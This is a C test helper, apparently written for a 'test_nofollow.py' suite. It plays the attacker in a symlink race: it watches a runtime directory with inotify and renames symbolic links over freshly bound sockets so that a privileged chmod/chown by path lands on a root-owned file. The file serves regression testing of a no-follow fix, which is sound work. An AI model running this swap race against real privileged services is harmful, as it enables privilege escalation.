/* The attacker of test_nofollow.py, run as the children's user: it watches
 * socket names in runtime_dir and renames a symbolic link over each socket
 * the moment it appears (woken by inotify), the way the review's attacker
 * turned a root chmod/chown by path onto a file of root's. A link stays LINGER_MS (long
 * enough for a sample's datagram to be sent to it), then goes, so the next
 * bind finds the name free and the race can be run again.
 *   rv-swap DIR TARGET[,TARGET...] NAME...
 * Targets are used in turn. On SIGTERM it prints "swaps NAME COUNT" for each
 * name and exits 0. */
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <poll.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_NAMES 8
#define MAX_TARGETS 4
#define LINGER_MS 150

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
    (void)sig;
    stop = 1;
}

static long long now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

int main(int argc, char **argv)
{
    if (argc < 4 || argc - 3 > MAX_NAMES) {
        fprintf(stderr, "usage: rv-swap DIR TARGET[,TARGET...] NAME...\n");
        return 2;
    }
    const char *dir = argv[1];
    char *targets[MAX_TARGETS];
    int ntargets = 0;
    for (char *t = strtok(argv[2], ","); t && ntargets < MAX_TARGETS; t = strtok(NULL, ","))
        targets[ntargets++] = t;
    int nnames = argc - 3;
    char path[MAX_NAMES][512], tmp[512];
    long long planted[MAX_NAMES] = { 0 };
    unsigned long swaps[MAX_NAMES] = { 0 };
    for (int i = 0; i < nnames; i++)
        snprintf(path[i], sizeof(path[i]), "%s/%s", dir, argv[3 + i]);
    snprintf(tmp, sizeof(tmp), "%s/.rv-swap.%d", dir, (int)getpid());

    struct sigaction sa = { .sa_handler = on_term };
    sigaction(SIGTERM, &sa, NULL);
    sigaction(SIGINT, &sa, NULL);
    unsigned turn = 0;
    int ino = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
    int watching = 0;
    while (!stop) {
        /* runtime_dir becomes ours at the first start's hand-over */
        if (!watching)
            watching = ino >= 0 && inotify_add_watch(ino, dir, IN_CREATE | IN_MOVED_TO) >= 0;
        for (int i = 0; i < nnames; i++) {
            struct stat st;
            if (lstat(path[i], &st) < 0)
                continue; /* not there yet, or runtime_dir not ours yet */
            if (S_ISSOCK(st.st_mode)) {
                unlink(tmp);
                if (symlink(targets[turn++ % (unsigned)ntargets], tmp) == 0 && rename(tmp, path[i]) == 0) {
                    swaps[i]++;
                    planted[i] = now_ms();
                }
            } else if (S_ISLNK(st.st_mode) && planted[i] && now_ms() - planted[i] > LINGER_MS) {
                unlink(path[i]);
                planted[i] = 0;
            }
        }
        /* Sleep until something is made in runtime_dir (a bind is), or a
         * link is due to go. */
        struct pollfd pfd = { .fd = ino, .events = POLLIN };
        if (watching && poll(&pfd, 1, 5) > 0) {
            char events[4096];
            while (read(ino, events, sizeof(events)) > 0)
                ;
        } else if (!watching) {
            struct timespec pause = { 0, 1000000 };
            nanosleep(&pause, NULL);
        }
    }
    unlink(tmp);
    for (int i = 0; i < nnames; i++)
        printf("swaps %s %lu\n", argv[3 + i], swaps[i]);
    return 0;
}
